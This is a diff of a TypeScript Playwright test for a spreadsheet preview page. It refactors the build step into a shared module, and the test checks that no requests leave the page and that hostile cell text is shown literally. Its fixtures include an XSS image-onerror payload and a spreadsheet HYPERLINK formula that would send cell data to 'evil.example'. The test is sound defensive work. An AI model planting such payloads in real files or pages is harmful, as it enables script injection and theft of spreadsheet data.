@@ -1,30 +1,14 @@
 // Nothing leaks, nothing runs: the browser preview in Chromium, every request recorded through a full check and report,
 // and hostile cell text (markup, formulas) shown literally. Needs /usr/bin/chromium and build/preview.html.
 import ExcelJS from 'exceljs';
-import fs from 'node:fs';
-import path from 'node:path';
 import type { Browser, Page } from 'playwright-core';
 import { launchChromium } from './chromium';
-import webpack from 'webpack';
 import { serveBuild, type BuildServer } from '../../scripts/serve-build';
 import { SAMPLE_PATH } from '../support/sample';
+import { BUILD, ensureBuild } from './build-once';
 
-const ROOT = path.resolve(__dirname, '..', '..');
-const BUILD = path.join(ROOT, 'build');
 const XSS = '<img src=x onerror=alert(1)>';
 const FORMULA = '=HYPERLINK("http://evil.example/steal?d="&A1,"点我")';
-
-function buildOnce(): Promise<void> {
-  if (fs.existsSync(path.join(BUILD, 'preview.html'))) return Promise.resolve();
-  const config = require(path.join(ROOT, 'webpack.config.js'))({}, { mode: 'production' }) as webpack.Configuration;
-  return new Promise((resolve, reject) => {
-    webpack({ ...config, context: ROOT }, (error, stats) => {
-      if (error) reject(error);
-      else if (stats?.hasErrors()) reject(new Error(stats.toString('errors-only')));
-      else resolve();
-    });
-  });
-}
 
 /** The sample with markup as the unit name and a formula-looking text in the score sheet's unit cell. */
 async function hostileSample(): Promise<string> {
@@ -45,7 +29,7 @@ describe('browser preview: nothing leaves the page, cell text stays text', () =>
   const problems: string[] = [];
 
   beforeAll(async () => {
-    await buildOnce();
+    await ensureBuild();
     server = await serveBuild({ root: BUILD });
     browser = await launchChromium();
     page = await browser.newPage({ viewport: { width: 420, height: 900 }, locale: 'zh-CN', acceptDownloads: true });
